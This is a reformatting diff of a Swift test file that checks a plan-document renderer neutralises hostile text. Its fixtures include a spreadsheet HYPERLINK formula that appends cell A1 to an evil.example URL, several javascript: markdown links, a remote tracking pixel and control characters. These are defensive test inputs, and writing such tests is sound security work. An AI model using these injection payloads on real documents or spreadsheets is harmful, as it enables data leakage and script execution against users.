@@ -9,7 +9,8 @@ import ZIPFoundation
 /// links, remote images and control characters must reach no document live or raw.
 final class HostileTextRenderTests: XCTestCase {
     static let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click here\")"
-    static let linkText = "See [the report](javascript:alert(1)), [also]( JavaScript:alert(2)), "
+    static let linkText =
+        "See [the report](javascript:alert(1)), [also]( JavaScript:alert(2)), "
         + "![pixel](http://evil.example/p.png), [ok](https://example.org/plan) and [ref][x]"
     static let definition = "[x]: javascript:alert(3)"
     static let controls = "Agree\u{0}the\u{1}plan\u{7F}now\u{0B}and\u{85}sign"
@@ -21,8 +22,9 @@ final class HostileTextRenderTests: XCTestCase {
                 path: "sections/police/15.md", partner: "police", recommendation: 15,
                 blocks: [TextBlock(kind: .summary, lines: [linkText, definition])],
                 actions: [
-                    Action(ref: ActionRef("15.7")!, text: formula, leads: ["@admin"],
-                           success: ["+1 more", "-2 fewer"], details: [linkText]),
+                    Action(
+                        ref: ActionRef("15.7")!, text: formula, leads: ["@admin"],
+                        success: ["+1 more", "-2 fewer"], details: [linkText]),
                     Action(ref: ActionRef("15.8")!, text: controls, leads: ["Chief Inspector"]),
                 ]))
         return PlanDocument(plan: Plan(manifest: SamplePlan.manifest, sections: sections), context: SamplePlan.context)
@@ -72,8 +74,10 @@ final class HostileTextRenderTests: XCTestCase {
 
     static func document(summary lines: [String]) -> PlanDocument {
         var sections = SamplePlan.sections
-        sections.append(SectionFile(path: "sections/police/15.md", partner: "police", recommendation: 15,
-                                    blocks: [TextBlock(kind: .summary, lines: lines)]))
+        sections.append(
+            SectionFile(
+                path: "sections/police/15.md", partner: "police", recommendation: 15,
+                blocks: [TextBlock(kind: .summary, lines: lines)]))
         return PlanDocument(plan: Plan(manifest: SamplePlan.manifest, sections: sections), context: SamplePlan.context)
     }
 
